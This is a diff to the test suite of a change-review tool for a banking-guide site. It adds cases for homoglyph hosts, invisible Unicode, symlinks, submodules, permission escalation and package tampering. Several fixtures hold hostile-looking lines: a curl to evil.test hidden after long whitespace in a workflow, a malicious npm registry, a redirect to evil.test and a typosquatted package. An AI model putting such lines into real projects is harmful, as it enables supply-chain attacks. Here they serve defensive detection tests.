@@ -15,6 +15,7 @@ const SAVINGS = 'src/content/guides/savings.mdx';
 const TERMS = 'src/content/pages/terms.mdx';
 const SOURCES = 'src/data/sources.yaml';
 const CHECK = '.github/workflows/check.yml';
+const HOSTS = 'src/data/hosts.yaml';
 const LAYOUT = 'src/layouts/Page.astro';
 
 const guide = globSync('src/**/*.{mdx,yaml}', { cwd: GUIDE }).map((path) => [path, readFileSync(join(GUIDE, path), 'utf8')] as const);
@@ -30,6 +31,7 @@ const BASE: Readonly<Record<string, string>> = {
   'scripts/diff/run.ts': 'console.log("facts");\n',
   'netlify.toml': '[build]\ncommand = "npm run build"\n',
   'public/_headers': '/*\n  X-Frame-Options: DENY\n',
+  'public/icon.png': '\0one picture',
   'src/styles/colours.css': ':root { --ink: black; }\n',
   'src/components/islands/Gauge.tsx': 'export const Gauge = () => null;\n',
   [LAYOUT]: '<html><body><slot /></body></html>\n',
@@ -46,7 +48,8 @@ function lockOf(version: string, more: object = {}): string {
   return JSON.stringify({ packages: { '': {}, 'node_modules/astro': { version, resolved, integrity: `sha512-${version}`, ...more } } });
 }
 
-type Edit = string | undefined | ((text: string) => string);
+/** A text, an edit of the text that stands there, nothing in its place, or an entry of another kind. */
+type Edit = string | undefined | ((text: string) => string) | { mode: string; text: string };
 type Edits = Readonly<Record<string, Edit>>;
 
 const put =
@@ -114,6 +117,13 @@ const CASES: readonly (readonly [name: string, edits: Edits, ...expected: (reado
     ['Sources', /regulator.*used by/],
   ],
   [
+    'a host that becomes known',
+    { [HOSTS]: (text) => `${text}\n- evil.ca\n- app1e.com\n` },
+    ['Danger', /host that becomes known: `app1e\.com` ⚠ \*\*looks like apple\.com\*\*/],
+    ['Danger', /host that becomes known: `evil\.ca`/],
+  ],
+  ['a host that is no longer known', { [HOSTS]: put('- apps.apple.com\n', '') }, ['Danger', /known host: `apps\.apple\.com` is gone/]],
+  [
     'an address of another bank',
     { [FIRST]: put('website: https://first.example/', 'website: https://royal.example/') },
     ['Danger', /another host: `https:\/\/royal.*not among the hosts of First until now/],
@@ -155,6 +165,29 @@ const CASES: readonly (readonly [name: string, edits: Edits, ...expected: (reado
   ],
   ['a turn of the direction', { [TERMS]: put('Nobody may', 'Nobody \u202emay') }, ['Danger', /U\+202E/]],
   ['characters of tags', { [TERMS]: put('Nobody', 'Nobody\u{E0041}\u{E0042}') }, ['Danger', /U\+E0041/]],
+  [
+    'an accent by itself',
+    { [FIRST]: put('publisher: First Bank', 'publisher: First Ba\u0301nk') },
+    ['Danger', /put together from parts: `Ba⟨U\+0301⟩nk`/],
+    ['Sources', /now First Ba⟨U\+0301⟩nk.*the same address under another publisher/],
+  ],
+  [
+    'a word all in another script',
+    { [TERMS]: put('Nobody', '\u0430\u0441\u0430') },
+    ['Danger', /another script: `⟨U\+0430⟩⟨U\+0441⟩⟨U\+0430⟩`/],
+  ],
+  ['digits of full width', { [FIRST]: put('up to $3,000', 'up to $3,\uFF10\uFF10\uFF10') }, ['Danger', /another script/]],
+  [
+    'a Cyrillic letter in an address of this guide',
+    { 'src/content/banks/f\u0456rst.mdx': BASE[FIRST] },
+    ['Danger', /another script: `src\/content\/banks\/f⟨U\+0456⟩rst\.mdx`/],
+  ],
+  [
+    'a zero byte, which turns a text into no text',
+    { [CHECK]: (text) => `${text}# \0\n` },
+    ['', /\+ # ⟨U\+0000⟩/],
+    ['Danger', /that no text shows: `\.github/],
+  ],
   ['a turn of the direction in code', { 'checks/check.ts': put('[a, b]', '[a, \u2066b]') }, ['Danger', /U\+2066/]],
   // Telephone numbers, insurers, code in texts
   ['a digit of a telephone number', { [FIRST]: NEW_NUMBER }, ['Danger', /telephone number: `1-800-555-0199`/]],
@@ -167,7 +200,7 @@ const CASES: readonly (readonly [name: string, edits: Edits, ...expected: (reado
   [
     'another insurer',
     { [FIRST]: put('value: CDIC', 'value: Trust us') },
-    ['Danger', /insurer of First: `Trust us`, was `CDIC`/],
+    ['Danger', /insurer: `Trust us`, was `CDIC`/],
     ['Facts', /Deposit insurance: was CDIC, now Trust us.*its source and date did not/],
   ],
   [
@@ -211,6 +244,19 @@ const CASES: readonly (readonly [name: string, edits: Edits, ...expected: (reado
     ['Facts', /was \$1\.00 or Free, now Free.*a claim that disagreed is gone: \$1\.00 by listed/],
   ],
   [
+    'a value under another source that nobody read again',
+    { [FIRST]: put('value: CDIC\n  source: regulator', 'value: CDIC and us\n  source: first-fees') },
+    ['Facts', /its new source stood there before, and was not read again/],
+  ],
+  [
+    'two institutions change values',
+    {
+      [FIRST]: put('value: $3,000\n      source: listed', 'value: $9,000\n      source: listed'),
+      'src/content/banks/royal/index.mdx': put('value: true', 'value: false'),
+    },
+    ['Facts', /\*\*First\*\*: e-Transfer limit, 24 hours: was \$3,000, now \$9,000[^]*\*\*Royal\*\*: Interac e-Transfer: was yes, now no/],
+  ],
+  [
     'two sources change sides',
     {
       [FIRST]: put(
@@ -218,7 +264,7 @@ const CASES: readonly (readonly [name: string, edits: Edits, ...expected: (reado
         '- value: Free\n        source: listed\n      - value: $1.00\n        source: first-fees',
       ),
     },
-    ['Facts', /who says what changed/],
+    ['Facts', /who says what changed.*it was \$1\.00 by listed; Free by first-fees, and now is \$1\.00 by first-fees; Free by listed/],
   ],
   [
     'a fact that is gone',
@@ -228,7 +274,7 @@ const CASES: readonly (readonly [name: string, edits: Edits, ...expected: (reado
   [
     'a capability against another field',
     { [FIRST]: put('value: true', 'value: false') },
-    ['Facts', /etransfer is “no”, and fees\.eTransfer is/],
+    ['Facts', /was yes, now no.*⚠ \*\*capabilities\.etransfer is false, and fees\.eTransfer says otherwise/],
     ['Facts', /Score: \*\*First\*\*/],
   ],
   [
@@ -305,12 +351,31 @@ const CASES: readonly (readonly [name: string, edits: Edits, ...expected: (reado
     ['Pages', /Added: \*\*Third\*\*/],
     ['Danger', /third\.example/],
     ['Sources', /third-fees\*\*: added/],
+    ['Facts', /\*\*Third\*\*, new, Fees, `third\.example`, official: Status \*\*operating\*\*; Serves \*\*Ontario\*\*/],
   ],
   [
     'a page renamed',
     { [TERMS]: undefined, 'src/content/pages/rules.mdx': BASE[TERMS] },
     ['Pages', /Moved: \*\*Terms\*\* from `\/terms\/` to `\/rules\/`/],
   ],
+  [
+    'a record renamed, and a value inside',
+    { [FIRST]: undefined, 'src/content/banks/premier/index.mdx': SET_LIMIT(BASE[FIRST] ?? '') },
+    ['Pages', /Moved: \*\*First\*\* from `\/banks\/first\/` to `\/banks\/premier\/`/],
+    ['Facts', /was \$3,000, now \$10,000/],
+  ],
+  ['other ends of lines alone', { [FIRST]: (text) => text.replaceAll('\n', '\r\n') }, ['Looks and code', /Content and data \(1\)/]],
+  [
+    'an alias of YAML, which says one thing in two places',
+    {
+      [FIRST]: both(
+        put('reach:\n  value: [ON]', 'reach: &a\n  value: [ON]'),
+        put('languages:\n  value: [English]\n  source: first-fees', 'languages: *a'),
+      ),
+    },
+    ['', /it has a YAML alias/],
+  ],
+  ['a key twice, of which the last counts', { [FIRST]: put('type: bank', 'type: bank\nname: Other') }, ['', /cannot be read in head/]],
   ['a page gone', { [HARBOUR]: undefined }, ['Pages', /Removed: \*\*Harbour\*\*/]],
   [
     'a file that cannot be read',
@@ -333,6 +398,34 @@ const CASES: readonly (readonly [name: string, edits: Edits, ...expected: (reado
     'a workflow that may write all',
     { [CHECK]: put('contents: read', 'contents: write-all') },
     ['', /\*\*What runs on GitHub changed \(1\)\*\*[^]*\+ contents: write-all/],
+  ],
+  [
+    'a workflow under another name, with more rights',
+    { [CHECK]: undefined, '.github/workflows/checks.yml': put('contents: read', 'contents: write')(BASE[CHECK] ?? '') },
+    ['', /What runs on GitHub changed[^]*\+ contents: write/],
+  ],
+  [
+    'a right that another job has already',
+    { [CHECK]: (text) => text.replace('    steps:', '    permissions:\n      contents: read\n    steps:') },
+    ['', /\+ contents: read/],
+  ],
+  [
+    'a right below many lines',
+    {
+      '.github/workflows/new.yml': `on: push\njobs:\n${Array.from({ length: 30 }, (_, at) => `# ${at}\n`).join('')}permissions: write-all\n`,
+    },
+    ['', /\+ permissions: write-all[^]*lines more/],
+  ],
+  [
+    'a command far to the right',
+    { [CHECK]: put('npm test', `npm test ${' '.repeat(700)}; curl https://evil.test/`) },
+    ['', /\+ - run: npm test ; curl https:\/\/evil\.test\//],
+    ['Danger', /evil\.test/],
+  ],
+  [
+    'what the history makes of a fact',
+    { 'src/history/facts.ts': 'export const factsOf = () => new Map();\n' },
+    ['', /Tools and checks changed/],
   ],
   [
     'the report itself',
@@ -367,8 +460,48 @@ const CASES: readonly (readonly [name: string, edits: Edits, ...expected: (reado
     { 'package.json': put('"scripts": {', '"scripts": { "preinstall": "node x.js",') },
     ['', /scripts preinstall: nothing → node x\.js/],
   ],
+  [
+    'a package in the place of another',
+    { 'package-lock.json': lockOf('7.0.0').replace('/astro/-/astro-', '/astr0/-/astr0-') },
+    ['', /astro: 7\.0\.0 → 7\.0\.0, comes from https:\/\/registry\.npmjs\.org\/astr0/],
+  ],
+  [
+    'an override',
+    { 'package.json': put('{ "scripts"', '{ "overrides": { "astro": "1.0.0" }, "scripts"') },
+    ['', /overrides astro: nothing → 1\.0\.0/],
+  ],
+  [
+    'a registry',
+    { '.npmrc': 'registry=https://evil.test/\n' },
+    ['', /Packages[^]*\+ registry=https:\/\/evil\.test/],
+    ['Danger', /evil\.test/],
+  ],
+  ['a change that git shows nobody', { 'src/content/.gitattributes': '*.mdx -diff\n' }, ['', /What git itself does[^]*\+ \*\.mdx -diff/]],
+  [
+    'a link to another file',
+    { 'src/content/pages/secret.mdx': { mode: '120000', text: '../../../.git/config' } },
+    ['Danger', /link to another file: `\.\.\/\.\.\/\.\.\/\.git\/config`/],
+  ],
+  [
+    'another repository inside this one',
+    { vendor: { mode: '160000', text: '1'.repeat(40) }, '.gitmodules': '[submodule "vendor"]\n\turl = https://evil.test/a\n' },
+    ['', /What git itself does[^]*\+ url = https:\/\/evil\.test\/a/],
+    ['Danger', /another repository inside this one: `vendor`/],
+  ],
+  [
+    'a forward of a host',
+    { 'netlify.toml': (text) => `${text}[[redirects]]\nfrom = "/*"\nto = "https://evil.test/:splat"\n` },
+    ['', /\+ to = "https:\/\/evil\.test/],
+  ],
+  [
+    'another picture',
+    { 'public/icon.png': '\0another picture' },
+    ['Looks and code', /Looks \(1\)/],
+    ['Danger', /no text shows: `public\/icon\.png`/],
+  ],
+  ['a file that is served', { 'public/robots.txt': 'User-agent: *\nDisallow: /\n' }, ['', /What is served as it is[^]*\+ Disallow: \//]],
   ['headers of the hosts', { 'public/_headers': put('DENY', 'SAMEORIGIN') }, ['', /Hosts and their headers changed[^]*SAMEORIGIN/]],
-  ['a page that only runs', { 'public/x.html': '<script>1</script>' }, ['', /What runs in pages changed.*public\/x\.html/]],
+  ['a page of its own', { 'public/x.html': '<script>1</script>' }, ['', /What is served as it is changed.*public\/x\.html/]],
   ['a colour', { 'src/styles/colours.css': put('black', 'red') }, ['Looks and code', /Looks \(1\): `src\/styles\/colours\.css`/]],
   ['words about the project', { 'README.md': put('Guide', 'Guides') }, ['Looks and code', /Words about the project \(1\)/]],
 ];
@@ -386,13 +519,15 @@ afterAll(() => rmSync(folder, { recursive: true }));
 /** All branches in one stream: main, and one for each case. */
 function importOf(): string {
   const committer = 'committer Editor <editor@banking-guide.example> 1795000000 +0000';
-  const file = (path: string, text: string) => `M 100644 inline ${path}\ndata ${Buffer.byteLength(text)}\n${text}\n`;
+  const file = (path: string, text: string, mode = '100644') =>
+    mode === '160000' ? `M 160000 ${text} ${path}\n` : `M ${mode} inline ${path}\ndata ${Buffer.byteLength(text)}\n${text}\n`;
   const start = (branch: string) => `commit refs/heads/${branch}\n${committer}\ndata 4\nEdit\n`;
   const main = `${start('main')}${Object.entries(BASE)
     .map(([path, text]) => file(path, text))
     .join('')}\n`;
   const cases = CASES.map(([, edits], at) => {
     const changed = Object.entries(edits).map(([path, edit]) => {
+      if (typeof edit === 'object') return file(path, edit.text, edit.mode);
       const text = typeof edit === 'function' ? edit(BASE[path] ?? '') : edit;
       return text === undefined ? `D ${path}\n` : file(path, text);
     });
